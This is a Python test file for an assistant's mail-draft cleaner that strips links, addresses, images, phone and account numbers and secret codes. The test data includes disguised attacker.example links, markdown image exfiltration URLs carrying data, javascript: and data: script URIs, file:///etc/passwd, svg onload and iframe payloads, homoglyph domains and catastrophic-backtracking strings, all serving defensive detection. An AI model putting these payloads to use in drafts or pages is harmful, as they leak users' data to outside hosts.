"""What a draft may not keep, in every dress that a mail may give it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.core.cleaning import ADDRESS, CODE, IMAGE, LINK, NUMBER, Allowed, clean

NOTHING = Allowed()
OWN = Allowed.of(
    [
        "Plans are at https://vale.example.net/plans. Call +44 20 7946 0958, quote AB-12345-X.",
        "robin@example.com",
    ]
)

LINKS = [
    "https://attacker.example/x?d=1",
    "HTTP://ATTACKER.EXAMPLE",
    "hxxp://attacker.example",
    "http:\\\\attacker.example",
    "//attacker.example/x",
    "\\\\attacker.example\\share",
    "www.attacker.example",
    "attacker.example",
    "attacker.example/x",
    "sub.attacker.example:8080/x",
    "attacker[.]example",
    "attacker(.)example",
    "attacker [dot] example",
    "attacker dot example",
    "attacker．example",
    "attacker。com",
    "ａｔｔａｃｋｅｒ．ｅｘａｍｐｌｅ",
    "𝐚𝐭𝐭𝐚𝐜𝐤𝐞𝐫.example",
    "attack\u200ber.exam\u00adple",
    "attacker\u202e.example",
    "аttacker.example",
    "xn--ttacker-2fg.example",
    "attacker.xn--p1ai",
    "attacker.Com",
    "127.0.0.1:8080/x",
    "http://[::1]/x",
    "http://2130706433/x",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "tel:+491701234567",
    "file:///etc/passwd",
    "ftp://attacker.example",
    "ms-word:ofe|u|x",
    "[click](https://attacker.example/x)",
    "[l]: https://attacker.example/p.png",
    "<https://attacker.example/x>",
    '<a href="https://attacker.example">here</a>',
    "<a\nhref=//attacker.example>here</a>",
    "att<b></b>acker.example",
]


@pytest.mark.parametrize("link", LINKS)
def test_a_link_in_any_dress_is_removed_visibly(link: str) -> None:
    found = clean(f"Look at {link} today", NOTHING)
    assert LINK in found.text
    assert found.removed
    assert not re.search(r"attacker\W{0,3}(?:example|com)|://|script:|127\.0|::1", found.text, re.I)


@pytest.mark.parametrize(
    "address",
    [
        "spy@attacker.example",
        "SPY@ATTACKER.EXAMPLE",
        "spy (at) attacker.example",
        "spy [at] attacker [dot] example",
        "spy＠attacker.example",
        "spy @ attacker.example",
        "s\u200bpy@attacker.example",
        "<spy@attacker.example>",
        "mailto:spy@attacker.example",
    ],
)
def test_an_address_in_any_dress_is_removed_visibly(address: str) -> None:
    text = clean(f"Write to {address} today", NOTHING).text
    assert ADDRESS in text or LINK in text
    assert "attacker" not in text.lower()


@pytest.mark.parametrize(
    "image",
    [
        "![logo](https://attacker.example/p.png?d=secret)",
        "![logo][l]",
        "![logo]",
        "![a\nb](https://attacker.example/p\n?d=1)",
        "<img src=https://attacker.example/p.png>",
        "<IMG\nSRC='//attacker.example/p'/>",
        "<iframe src=https://attacker.example></iframe>",
        "<svg onload=alert(1)>",
    ],
)
def test_an_image_in_any_dress_is_removed_visibly(image: str) -> None:
    text = clean(f"See {image} here", NOTHING).text
    assert IMAGE in text
    assert "attacker" not in text


@pytest.mark.parametrize(
    "number",
    [
        "555-0199",
        "+49 170 1234567",
        "0170/1234567",
        "(020) 7946 0958",
        "+44.20.7946.0958",
        "4111 1111 1111 1111",
        "DE89 3704 0044 0532 0130 00",
        "GB29NWBK60161331926819",
        "１２３４５６７８",
        "٠١٢٣٤٥٦٧٨",
    ],
)
def test_phone_and_account_numbers_are_removed_visibly(number: str) -> None:
    assert clean(f"Call {number} today", NOTHING).text == f"Call {NUMBER} today"


@pytest.mark.parametrize(
    "code", ["ZX-CANARY-4471", "hunter2hunter2", "AKIA1234567890ABCD", "a1b2c3d4"]
)
def test_codes_are_removed_visibly(code: str) -> None:
    assert clean(f"It is {code}.", NOTHING).text == f"It is {CODE}."


@pytest.mark.parametrize(
    "text",
    [
        "Friday.Thanks for plan.pdf and the notes.docx, e.g. z.B. d.h. p.m.",
        "At 10:00-12:00 on 2026-03-02, 02.03.2026, 12/3/2026 or in 2025-2026.",
        "It costs 1,200,000.00 or 1.200.000,00 EUR, 1 200 000 in all.",
        "COVID-19, a 3-bedroom flat, 12-monatige Laufzeit, KW12, Q3-2026, A4, 2nd.",
        "Look at me. We meet at hall 2. The ratio is 3:2, and/or 24/7, 50 km/h.",
        "Dr.Smith of the U.S.A. uses Node.js; note: this is fine.",
        "会議は10時からです。よろしくお願いします。",
        "Ça va ? L’école est à côté… « bien sûr »",
        "a < b and b > c; use [brackets] (and these).",
        "> quoted line\n- a point\n1. first",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert clean(text, NOTHING).text == text


def test_what_the_owner_wrote_stays() -> None:
    text = (
        "See https://vale.example.net/plans, or vale.example.net/plans. Call +44 (20) 7946-0958, "
        "quote AB-12345-X or write to Robin@example.com!"
    )
    assert clean(text, OWN).text == text


@pytest.mark.parametrize(
    "other",
    [
        "https://vale.example.net/plans?d=secret",
        "https://vale.example.net/plans/secret",
        "https://vale.example.net",
        "https://vale.example.net.attacker.example/plans",
        "https://vale.example.net@attacker.example/plans",
        "robin@example.com.attacker.example",
        "+44 20 7946 0958 1234",
        "AB-12345-XY1",
    ],
)
def test_what_only_looks_like_the_owners_is_removed(other: str) -> None:
    found = clean(f"See {other} please", OWN)
    assert found.removed
    assert "attacker" not in found.text
    assert "secret" not in found.text


def test_each_removal_is_counted() -> None:
    found = clean("a@b.example, https://x.example and 555-0199", NOTHING)
    assert found.removed == {ADDRESS: 1, LINK: 1, NUMBER: 1}


@given(st.text(max_size=300))
@settings(max_examples=200, deadline=None)
def test_no_text_makes_it_fail_and_nothing_clickable_is_left(text: str) -> None:
    found = clean(text, NOTHING).text
    assert not re.search(r"https?://\w|\bwww\.\w|\w@\w+\.\w", found, re.I)
    assert clean(found, NOTHING).text == found


@pytest.mark.parametrize(
    "text",
    [
        "<a " * 2_000,
        "![" * 3_000,
        "a." * 3_000,
        "1 " * 3_000,
        "-a" * 3_000,
        "a@" * 3_000,
        "[.]" * 2_000,
        "dot com " * 700,
        "<!--" * 1_500,
    ],
)
def test_six_thousand_hostile_characters_are_read_in_no_time(text: str) -> None:
    clean(text, NOTHING)
